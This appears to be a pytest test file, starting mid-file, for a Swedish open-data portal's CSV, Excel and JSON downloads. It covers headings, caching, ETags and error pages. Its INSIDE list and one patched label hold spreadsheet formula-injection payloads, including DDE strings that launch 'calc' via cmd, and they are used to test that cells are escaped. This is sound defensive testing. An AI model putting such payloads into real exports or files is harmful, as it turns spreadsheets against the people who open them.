            assert len(set(headings)) == len(headings), dataset.slug


@pytest.mark.parametrize("language", ["sv", "en"])
def test_a_heading_is_plain_text_a_spreadsheet_shows_as_written(language):
    with translation.override(language):
        for dataset in DATASETS:
            for heading in dataset.column_headings:
                assert safe_cell(heading) == heading == heading.strip()
                assert not set(heading) & set(';,"\r\n\t'), heading


def test_a_heading_says_what_the_column_holds_in_its_own_dataset():
    with translation.override("sv"):
        headings = {
            dataset.slug: dict(zip(dataset.column_names, dataset.column_headings, strict=True))
            for dataset in DATASETS
        }
    for slug, expected in HEADINGS.items():
        assert {name: headings[slug][name] for name in expected} == expected


def header_rows(client, path: str) -> tuple[list[str], list[str], list[str]]:
    """The header rows of a download in its three forms: CSV, CSV for Excel, JSON's keys."""
    _r, standard = download(client, f"{path}.csv")
    _r, excel = download(client, f"{path}-excel.csv")
    _r, data = download(client, f"{path}.json")
    (json_keys,) = {tuple(item) for item in json.loads(data)}
    return (
        next(csv.reader(io.StringIO(standard.decode("utf-8"), newline=""))),
        next(csv.reader(io.StringIO(excel.decode("utf-8-sig"), newline=""), delimiter=";")),
        list(json_keys),
    )


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("path", "dataset"),
    [
        ("/oppna-data/aktiviteter", "aktiviteter"),
        ("/oppna-data/perioder", "perioder"),
        ("/kommuner/tranas/oppna-data/genomforda-aktiviteter", "genomforda-aktiviteter"),
        ("/kommuner/tranas/oppna-data/loften", "loften"),
    ],
)
def test_the_excel_header_row_is_swedish_and_the_other_forms_keep_the_column_names(
    client, known, path, dataset
):
    standard, excel, json_keys = header_rows(client, path)
    # Programs read the same stable names as before, in both forms.
    assert standard == json_keys == COLUMNS[dataset]
    # The spreadsheet has one heading per column, in Swedish, never a column name.
    assert len(excel) == len(standard)
    with translation.override("sv"):
        assert excel == DATASETS_BY_SLUG[dataset].column_headings
    assert not set(excel) & set(standard)
    assert excel[COLUMNS[dataset].index("municipality_code")] == "Kommunkod"
    for name, heading in HEADINGS.get(dataset, {}).items():
        assert excel[COLUMNS[dataset].index(name)] == heading


@pytest.mark.django_db
def test_the_english_excel_file_has_the_english_headings(client, known):
    _r, swedish = download(client, "/oppna-data/loften-excel.csv")
    _r, english = download(client, "/en/oppna-data/loften-excel.csv")
    first_line = english.decode("utf-8-sig").split("\r\n", 1)[0].split(";")
    assert first_line[:5] == [
        "Promise ID",
        "Period ID",
        "Period (web address part)",
        "Municipality code",
        "Municipality",
    ]
    assert swedish.decode("utf-8-sig").startswith("Löftets id;Periodens id;")


@pytest.mark.django_db
def test_the_excel_form_writes_ja_and_nej_and_the_others_true_and_false(client, known):
    answers = {}
    for form, suffix in {"csv": ".csv", "excel": "-excel.csv", "json": ".json"}.items():
        _r, body = download(client, f"/oppna-data/perioder{suffix}")
        answers[form] = {row["period_slug"]: row["active"] for row in rows(form, body)[1]}
    assert answers == {
        "csv": {"2024": "false", "nu": "true"},
        "excel": {"2024": "nej", "nu": "ja"},
        "json": {"2024": False, "nu": True},
    }


def test_a_codes_words_in_the_excel_form_are_cells_as_any_other():
    """The words are ours (none starts like a formula), but they pass through the same cell
    function as every value: a word that did would get its apostrophe. A code without words
    (one added to the model and not to the open data page) is written as it is."""
    dataset = DATASETS_BY_SLUG["aktiviteter"]
    for column, words in opendata_files.code_labels(dataset).items():
        for word in words.values():
            assert safe_cell(word) == word, (column, word)
    row = dict.fromkeys(dataset.column_names)
    row.update(responsible="police", target_scope="fortnight")
    cells = dict(zip(dataset.column_names, _excel_cells(dataset, row), strict=True))
    assert (cells["responsible"], cells["target_scope"]) == ("Polisen", "fortnight")
    formula = {"responsible": {"police": '=HYPERLINK("https://example.org")'}}
    with pytest.MonkeyPatch.context() as patched:
        patched.setattr(opendata_files, "code_labels", lambda dataset: formula)
        cells = dict(zip(dataset.column_names, _excel_cells(dataset, row), strict=True))
    assert cells["responsible"] == '\'=HYPERLINK("https://example.org")'


def _excel_cells(dataset, row) -> list[str]:
    """The cells of `row` as the CSV for Excel writes them."""
    text = "".join(opendata_files.write_excel_csv(dataset, [row]))
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";"))[1]


@pytest.mark.django_db
def test_the_open_data_page_gives_each_columns_heading_in_excel_beside_its_name(client):
    html = client.get("/oppna-data/").content.decode()
    columns = html[html.index('id="columns-heading"') : html.index('id="codes-heading"')]
    assert '<th scope="col">Rubrik i Excel</th>' in columns
    with translation.override("sv"):
        for dataset in DATASETS:
            table = columns[columns.index(f'id="columns-{dataset.slug}"') :]
            table = table[: table.index("</table>")]
            for column in dataset.columns:
                cell = f"<code>{column.name}</code></th><td>{escape(column.heading)}</td>"
                assert cell in table, (dataset.slug, column.name)
    # And how the CSV for Excel differs from the standard form.
    text = unescape(html)
    assert "rubrikraden har rubriker på svenska" in text
    assert "sant och falskt skrivs som ja och nej" in text
    assert "ett program bör läsa standard-CSV:n eller JSON-filen" in text
    assert "varje kod skrivs som vad den betyder (se Koder nedan)" in text
    assert "I standard-CSV:n och JSON-filen är koder (se nedan) engelska ord" in text


# Whole files, kept until the public data change


def kept_files() -> list[str]:
    """The files kept in the storage, as paths under exports/."""
    root = Path(settings.MEDIA_ROOT) / EXPORTS_FOLDER
    if not root.exists():
        return []
    return sorted(str(path.relative_to(root)) for path in root.rglob("*") if path.is_file())


@pytest.fixture
def builds(monkeypatch):
    """The activities dataset, recording each time its rows are built from the database."""
    calls = []
    dataset = opendata.DATASETS_BY_SLUG["aktiviteter"]

    def counted_rows(*args):
        calls.append(args)
        return dataset.rows(*args)

    counted = dataclasses.replace(dataset, rows=counted_rows)
    monkeypatch.setitem(opendata.DATASETS_BY_SLUG, "aktiviteter", counted)
    return calls


def cache_control(response) -> set[str]:
    return {part.strip() for part in response["Cache-Control"].split(",")}


@pytest.mark.django_db
@pytest.mark.parametrize("form", ["csv", "excel", "json"])
def test_a_file_of_many_chunks_and_larger_than_memory_arrives_whole(client, monkeypatch, form):
    # Small chunks and a small memory limit: many queries and writes, then a file on disk.
    monkeypatch.setattr(opendata_rows, "CHUNK_SIZE", 4)
    monkeypatch.setattr(opendata_files, "ROWS_PER_WRITE", 3)
    monkeypatch.setattr(opendata_files, "SPOOL_MAX_BYTES", 1024)
    build_activities("vetlanda", 25, "stor")
    suffix = {"csv": ".csv", "excel": "-excel.csv", "json": ".json"}[form]
    _response, body = download(client, f"/oppna-data/aktiviteter{suffix}")  # checks the length
    assert len(body) > 4 * 1024
    names, data = rows(form, body)
    assert names == COLUMNS["aktiviteter"]
    assert sorted(row["title"] for row in data) == sorted(f"Aktivitet {i}" for i in range(25))
    assert {str(row["done_total"]) for row in data} == {"3"}
    # Kept whole too: the next download, from the storage, is the same file.
    assert download(client, f"/oppna-data/aktiviteter{suffix}")[1] == body


@pytest.mark.django_db
@pytest.mark.parametrize(("prefix", "queries"), [("", 0), ("/kommuner/tranas", 1)])
def test_a_second_download_is_served_from_storage_without_building_again(
    client, known, builds, django_assert_num_queries, prefix, queries
):
    url = f"{prefix}/oppna-data/aktiviteter.json"
    first, body = download(client, url)
    assert len(builds) == 1
    assert len(kept_files()) == 1
    # No query for the data (one finds the municipality), and the rows are not built again.
    with django_assert_num_queries(queries):
        second, again = download(client, url)
    assert len(builds) == 1
    assert again == body
    assert len(json.loads(again)) == 3
    assert second["ETag"] == first["ETag"]
    for response in (first, second):
        assert response["Content-Type"] == "application/json"
        assert response["Content-Disposition"].startswith('attachment; filename="medborgarloften-')
        assert cache_control(response) == {"public", "max-age=0", "must-revalidate"}


@pytest.mark.django_db
def test_after_a_write_the_next_download_has_the_new_figure(client, known, builds):
    def controls_done() -> tuple[int, str]:
        response, body = download(client, "/oppna-data/aktiviteter.json")
        (row,) = [row for row in json.loads(body) if row["title"] == "Trafikkontroller"]
        return row["done_total"], response["ETag"]

    done, etag = controls_done()
    assert done == 5
    assert controls_done() == (5, etag)  # from storage
    factories.log(known["controls"], D(2024, 6, 2), 4)
    done, new_etag = controls_done()
    assert done == 9
    assert new_etag != etag
    assert len(builds) == 2
    # The file of the old version was deleted when the new one was kept.
    (kept,) = kept_files()
    assert kept.endswith("-medborgarloften-aktiviteter.json")


@pytest.mark.django_db
def test_a_file_is_built_once_whatever_host_a_request_names(client, known, builds, settings):
    """Django checks a Host's name, not its port: `portal.example:1`, `:2` … each had a national
    file built and kept on disk, with that port in every url of it."""
    settings.ALLOWED_HOSTS = ["portal.example"]
    settings.SITE_URL = "https://portal.example"
    for host in ("portal.example", "portal.example:1", "portal.example:2", "PORTAL.example"):
        _response, body = download(client, "/oppna-data/aktiviteter.json", HTTP_HOST=host)
        assert {row["url"].split("/kommuner/")[0] for row in json.loads(body)} == {
            "https://portal.example"
        }
    assert len(builds) == 1
    assert len(kept_files()) == 1


@pytest.mark.django_db
@pytest.mark.parametrize(
    "url",
    ["/oppna-data/aktiviteter.csv", "/kommuner/tranas/oppna-data/genomforda-aktiviteter.json"],
)
def test_the_etag_does_not_move_with_a_write_the_file_does_not_show(client, known, url):
    """As for pages (tests/config/test_public_cache.py): a download's ETag was made from the
    public data version, which every write in the municipality replaces, an internal one too;
    polling a file's ETag told when its staff were at work on something internal."""
    first, body = download(client, url)
    log = factories.log(known["controls"], D(2024, 6, 3), 2)
    first, body = download(client, url)
    log.internal_note = "INTERNAL-NOTE-SECRET"
    log.save()
    again, same = download(client, url)
    assert same == body and again["ETag"] == first["ETag"]  # built anew, the same file
    assert client.get(url, HTTP_IF_NONE_MATCH=first["ETag"]).status_code == 304
    log.quantity = 3
    log.save()
    changed, other = download(client, url, HTTP_IF_NONE_MATCH=first["ETag"])
    assert other != body and changed["ETag"] != first["ETag"]


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", FORMATS)
def test_a_database_error_while_building_gives_the_503_page_never_a_partial_file(
    client, known, monkeypatch, fmt
):
    dataset = opendata.DATASETS_BY_SLUG["aktiviteter"]

    def rows_then_outage(*args):
        produced = dataset.rows(*args)
        yield next(produced)
        yield next(produced)
        raise OperationalError("server closed the connection unexpectedly")

    broken = dataclasses.replace(dataset, rows=rows_then_outage)
    monkeypatch.setitem(opendata.DATASETS_BY_SLUG, "aktiviteter", broken)
    monkeypatch.setattr(opendata_files, "ROWS_PER_WRITE", 1)  # rows were written before the error
    response = client.get(f"/oppna-data/aktiviteter.{fmt}")
    assert response.status_code == 503
    assert response.streaming is False
    assert response["Cache-Control"] == "no-store"
    assert "ETag" not in response
    html = response.content.decode()
    assert "Tjänsten är tillfälligt otillgänglig" in html
    assert "activity_id" not in html and "Trafikkontroller" not in html
    assert kept_files() == []
    # Once the database answers, the download is whole.
    monkeypatch.setitem(opendata.DATASETS_BY_SLUG, "aktiviteter", dataset)
    assert len(rows(fmt, download(client, f"/oppna-data/aktiviteter.{fmt}")[1])[1]) == 3


@pytest.mark.django_db
def test_national_and_municipality_files_are_kept_apart_and_outlive_writes_elsewhere(
    client, known, builds
):
    national, tranas = (
        "/oppna-data/aktiviteter.json",
        "/kommuner/tranas/oppna-data/aktiviteter.json",
    )
    legacy = Path(settings.MEDIA_ROOT) / EXPORTS_FOLDER / "0ld-2026-01-01"
    legacy.mkdir(parents=True, exist_ok=True)
    (legacy / "x.json").write_bytes(b"[]")  # a file of the earlier layout
    download(client, national)
    download(client, tranas)
    assert len(builds) == 2
    assert [name.split("/")[0] for name in kept_files()] == ["kommun-tranas", "nationella"]
    # A write in Vetlanda: the national file is built anew, Tranås's is still kept.
    factories.period("vetlanda", slug="ny")
    download(client, tranas)
    assert len(builds) == 2
    download(client, national)
    assert len(builds) == 3
    assert [name.split("/")[0] for name in kept_files()] == ["kommun-tranas", "nationella"]
    assert not legacy.exists()
    # A write in Tranås: both anew, the older file of each deleted.
    factories.log(known["walks"], timezone.localdate(), 1)
    download(client, tranas)
    download(client, national)
    assert len(builds) == 5
    assert [name.split("/")[0] for name in kept_files()] == ["kommun-tranas", "nationella"]


@pytest.mark.django_db
@pytest.mark.parametrize("fails", [False, True])
def test_the_cycle_collector_is_paused_while_a_file_is_built_and_runs_again_after(
    known, monkeypatch, fails
):
    dataset = opendata.DATASETS_BY_SLUG["aktiviteter"]
    seen = []

    def watched(*args):
        for row in dataset.rows(*args):
            seen.append(gc.isenabled())
            yield row
        if fails:
            raise OperationalError("server closed the connection unexpectedly")

    monkeypatch.setitem(
        opendata.DATASETS_BY_SLUG, "aktiviteter", dataclasses.replace(dataset, rows=watched)
    )
    export = opendata.Export(
        opendata.DATASETS_BY_SLUG["aktiviteter"],
        opendata.FORMATS["csv"],
        None,
        settings.SITE_URL,
        timezone.localdate(),
    )
    assert gc.isenabled()
    if fails:
        with pytest.raises(OperationalError):
            export.build()
    else:
        assert len(rows("csv", export.build().read())[1]) == 3
    assert seen == [False, False, False]
    assert gc.isenabled()


@pytest.mark.django_db
def test_if_none_match_with_the_etag_gets_304_without_building(
    client, known, builds, django_assert_num_queries
):
    url = "/oppna-data/aktiviteter.csv"
    first, _body = download(client, url)
    etag = first["ETag"]
    with django_assert_num_queries(0):
        response = client.get(url, HTTP_IF_NONE_MATCH=etag)
    assert response.status_code == 304
    assert response.content == b""
    assert response["ETag"] == etag
    assert cache_control(response) == {"public", "max-age=0", "must-revalidate"}
    assert len(builds) == 1
    # Another ETag (of an older version, say) gets the file.
    _response, body = download(client, url, HTTP_IF_NONE_MATCH='"older"')
    assert len(rows("csv", body)[1]) == 3


@pytest.mark.django_db
def test_a_file_another_worker_is_still_writing_is_never_served(client, known):
    # The file of this version, half written by another worker: there, but not recorded whole.
    export = opendata.Export(
        opendata.DATASETS_BY_SLUG["aktiviteter"],
        opendata.FORMATS["json"],
        None,
        settings.SITE_URL,
        timezone.localdate(),
    )
    name = export.storage_name(public_cache.current_version())
    default_storage.save(name, ContentFile(b'[\n{"activity_id": 1, "peri'))
    for _ in range(2):  # built, then from storage
        _response, body = download(client, "/oppna-data/aktiviteter.json")
        assert len(json.loads(body)) == 3
    assert len(kept_files()) == 2  # the whole file was saved under another name


@pytest.mark.django_db
def test_without_the_cache_the_file_is_built_and_not_kept(client, known, builds, monkeypatch):
    monkeypatch.setattr(public_cache, "current_version", lambda slug=None: None)
    for _ in range(2):
        response, body = download(client, "/oppna-data/aktiviteter.json")
        assert len(json.loads(body)) == 3
        assert "ETag" not in response
    assert len(builds) == 2
    assert kept_files() == []


@pytest.mark.django_db
def test_a_storage_failure_still_serves_the_whole_file(client, known, builds, monkeypatch):
    def disk_full(*args, **kwargs):
        raise OSError("No space left on device")

    monkeypatch.setattr(FileSystemStorage, "save", disk_full)
    for _ in range(2):
        _response, body = download(client, "/oppna-data/aktiviteter-excel.csv")
        assert len(rows("excel", body)[1]) == 3
    assert len(builds) == 2


def activities_file(fmt: str = "json") -> opendata.Export:
    """The national activities file of today, as the download builds it."""
    return opendata.Export(
        opendata.DATASETS_BY_SLUG["aktiviteter"],
        opendata.FORMATS[fmt],
        None,
        settings.SITE_URL,
        timezone.localdate(),
    )


def building_key(export: opendata.Export) -> str:
    return _building_key(export.storage_name(public_cache.current_version()))


@pytest.mark.django_db
def test_a_file_another_worker_is_building_is_waited_for_and_not_built_again(
    client, known, builds, monkeypatch
):
    export = activities_file()
    whole = export.build().read()
    builds.clear()
    cache = caches[settings.PUBLIC_CACHE_ALIAS]
    assert cache.add(building_key(export), "another worker", 60)  # it builds this file
    waits = []

    def other_worker_keeps_it_while_we_wait(seconds):
        waits.append(seconds)
        if len(waits) == 3:
            _store(export.storage_name(public_cache.current_version()), io.BytesIO(whole))

    monkeypatch.setattr(time, "sleep", other_worker_keeps_it_while_we_wait)
    _response, body = download(client, "/oppna-data/aktiviteter.json")
    assert body == whole
    assert builds == []
    assert len(waits) == 3
    assert cache.get(building_key(export)) == "another worker"  # not ours to give back


@pytest.mark.django_db
def test_when_the_other_build_fails_or_takes_too_long_the_file_is_built_here(
    client, known, builds, monkeypatch
):
    export = activities_file()
    cache = caches[settings.PUBLIC_CACHE_ALIAS]
    # The other worker gives its key back without keeping the file (its build failed).
    cache.add(building_key(export), "another worker", 60)
    with monkeypatch.context() as patched:
        patched.setattr(time, "sleep", lambda s: cache.delete(building_key(export)))
        _response, body = download(client, "/oppna-data/aktiviteter.json")
    assert len(json.loads(body)) == 3
    assert len(builds) == 1

    # The other worker holds its key and keeps nothing: built here after the wait.
    export = activities_file("csv")
    cache.add(building_key(export), "another worker", 60)
    monkeypatch.setattr(opendata_files, "BUILD_WAIT_SECONDS", 0.2)
    monkeypatch.setattr(opendata_files, "BUILD_POLL_SECONDS", 0.05)
    _response, body = download(client, "/oppna-data/aktiviteter.csv")
    assert len(rows("csv", body)[1]) == 3
    assert len(builds) == 2


@pytest.mark.django_db
@pytest.mark.parametrize("fails", [False, True])
def test_the_builder_holds_the_key_while_it_builds_and_gives_it_back(known, monkeypatch, fails):
    export = activities_file()
    cache = caches[settings.PUBLIC_CACHE_ALIAS]
    key = building_key(export)
    dataset = opendata.DATASETS_BY_SLUG["aktiviteter"]
    held = []

    def watched(*args):
        held.append(cache.get(key) is not None)
        yield from dataset.rows(*args)
        if fails:
            raise OperationalError("server closed the connection unexpectedly")

    export = dataclasses.replace(export, dataset=dataclasses.replace(dataset, rows=watched))
    version = public_cache.current_version()
    if fails:
        with pytest.raises(OperationalError):
            export.open(version)
    else:
        assert len(json.loads(export.open(version).read())) == 3
    assert held == [True]
    assert cache.get(key) is None


@pytest.mark.django_db
def test_the_open_data_page_claims_only_the_datasets_it_offers(client):
    page = " ".join(client.get("/oppna-data/").content.decode().split())
    assert "Allt som de offentliga sidorna visar" not in page
    # Follow-up meetings, reports and outcomes are downloadable now (test_opendata_followups).
    assert "finns på varje medborgarlöftes sida" not in page


# A formula after a separator or a line break inside a text: Swedish Excel opens the comma file
# on semicolons, and a quote only counts at the start of a cell.
INSIDE = (
    "Trafikkontroll;=HYPERLINK(CHAR(104)&CHAR(116));genomförd",
    "Centrum,=1+1,",
    "Torget, \u200b+cmd|' /C calc'!A0",
    "Rad ett\n@SUM(1+1)",
    "Rad ett\r\n-2+3+cmd|' /C calc'!A0",
    'Kontroll;"=1+2',  # a quotation mark between: written doubled, read as an empty part
    'Torget,"" \u200b+1',
)


@pytest.mark.parametrize("text", INSIDE)
def test_a_formula_after_a_separator_inside_a_text_gets_an_apostrophe(text):
    cell = safe_cell(text)
    assert cell != text
    for separator in (",", ";", "\n", "\r"):
        for part in cell.split(separator)[1:]:
            assert not part.lstrip(" \u200b").startswith(("=", "+", "-", "@")), part


@pytest.mark.parametrize("text", ["Centrum, Storgatan; Torget", "kl. 18-20, 2 st", "a,b;c"])
def test_separators_without_a_formula_are_left_alone(text):
    assert safe_cell(text) == text


def _guarded_in_full(text: str) -> str:
    """safe_cell's rule without its quick check (the check says whether the rule can change
    the text; a national file has a hundred thousand cells)."""
    from activities.spreadsheet import _LEADING_BLANKS, _SEPARATED_FORMULA, FORMULA_STARTS

    text = _SEPARATED_FORMULA.sub(r"\1'", text)
    visible = text[_LEADING_BLANKS.match(text).end() :]
    if text.startswith(FORMULA_STARTS) or visible.startswith(FORMULA_STARTS):
        return "'" + text
    return text


@hypothesis.settings(max_examples=3000, deadline=None)
@hypothesis.given(
    st.text(
        alphabet=st.sampled_from(
            list('=+-@\t\r\n ,;"a1') + ["\u200b", "\ufeff", "\u00a0", "\u3000", "＝", "＠"]
        ),
        max_size=8,
    )
)
def test_the_quick_check_lets_no_text_through_that_the_rule_would_change(text):
    assert safe_cell(text) == _guarded_in_full(text)


@pytest.mark.django_db
@pytest.mark.parametrize("form", CSV_FORMS)
def test_no_cell_starts_like_a_formula_whichever_separator_the_file_is_split_on(
    client, formulas, form
):
    for text in INSIDE:
        factories.log(formulas.activity, formulas.period.start_date, 1, place=text, summary=text)
    _response, body = download(client, dataset_path("genomforda-aktiviteter", CSV_FORMS[form]))
    text = body.decode("utf-8-sig")
    for delimiter in (",", ";", "\t"):
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            for cell in row:
                visible = cell.lstrip(" \u200b\ufeff")
                assert not visible.startswith(("=", "+", "-", "@", "\uff1d", "\uff0b")), cell


@pytest.mark.django_db
@pytest.mark.parametrize("first", ["", "/en"])
def test_each_language_gets_its_own_file_whichever_is_asked_for_first(client, known, first):
    other = "/en" if first == "" else ""
    path = "/oppna-data/perioder.csv"
    _response, first_body = download(client, f"{first}{path}")
    response, other_body = download(client, f"{other}{path}")
    assert first_body != other_body
    english, swedish = (first_body, other_body) if first else (other_body, first_body)
    assert b"/en/kommuner/tranas/" in english
    assert b"/en/kommuner/" not in swedish and b"/kommuner/tranas/" in swedish
    assert response["Content-Language"] == (other.strip("/") or "sv")


@pytest.mark.django_db
def test_a_web_page_elsewhere_may_fetch_the_open_data(client, known):
    response, _body = download(client, dataset_path("aktiviteter", ".json"))
    assert response["Access-Control-Allow-Origin"] == "*"
    assert "Access-Control-Allow-Credentials" not in response
    again = client.get(
        dataset_path("aktiviteter", ".json"), headers={"if-none-match": response["ETag"]}
    )
    assert again.status_code == 304 and again["Access-Control-Allow-Origin"] == "*"


DATE_VALUE = re.compile(r"\d{4}-\d{2}-\d{2}\Z")


@pytest.mark.django_db
@pytest.mark.parametrize("dataset", COLUMNS)
def test_json_writes_null_for_a_missing_number_or_date_and_empty_text_as_documented(
    client, known, dataset
):
    """The page said "a missing value is null" while texts that do not apply were "" (a
    journalist's script tripped on it): each column is one or the other, as now documented."""
    _response, body = download(client, dataset_path(dataset, ".json"))
    _names, data = rows("json", body)
    for name in COLUMNS[dataset]:
        values = [row[name] for row in data]
        texts = [value for value in values if isinstance(value, str)]
        if None in values and texts:
            assert all(DATE_VALUE.match(text) for text in texts), (dataset, name, texts[:3])


@pytest.mark.django_db
def test_a_municipalitys_open_data_folder_leads_to_the_page_with_it_chosen(client):
    """A journalist tried /kommuner/tranas/oppna-data/, the folder of Tranås's files: a 404."""
    factories.municipality("tranas")
    response = client.get("/kommuner/tranas/oppna-data/")
    assert response.status_code == 302
    assert response["Location"] == "/oppna-data/?kommun=tranas"
    assert client.get("/kommuner/atlantis/oppna-data/").status_code == 404


@pytest.mark.django_db
@pytest.mark.parametrize(
    "dataset", [dataset.slug for dataset in DATASETS_BY_SLUG.values() if not dataset.national]
)
@pytest.mark.parametrize("suffix", [".csv", "-excel.csv", ".json"])
def test_national_address_of_a_dataset_per_municipality_says_where_it_is(client, dataset, suffix):
    """A journalist tried /oppna-data/genomforda-aktiviteter.csv, the name the open data page
    gives the dataset: a 404 that says the files are per municipality and links to the choice,
    not the bare "page not found"."""
    response = client.get(f"/oppna-data/{dataset}{suffix}")
    assert response.status_code == 404
    page = response.content.decode()
    assert f"{DATASETS_BY_SLUG[dataset].title}: finns per kommun" in page
    assert f'href="/oppna-data/#dataset-{dataset}"' in page
    assert "Välj kommun på sidan Öppna data" in page
    assert "Set-Cookie" not in response.headers


@pytest.mark.django_db
def test_open_data_page_jumps_to_its_parts_from_the_top(client):
    """A communicator looking for the embed code scrolled past some thirty download links:
    the page opens with links to its parts, each to a heading the page has."""
    page = client.get("/oppna-data/").content.decode()
    contents = page.split('id="contents-heading"', 1)[1].split("</nav>", 1)[0]
    targets = re.findall(r'href="#([\w-]+)"', contents)
    assert targets == ["downloads-heading", "inbaddning", "columns-heading", "feeds-heading"]
    for target in targets:
        assert f'id="{target}"' in page
    assert page.index('id="contents-heading"') < page.index('id="downloads-heading"')
    assert "Visa framstegen på er egen webbplats" in contents
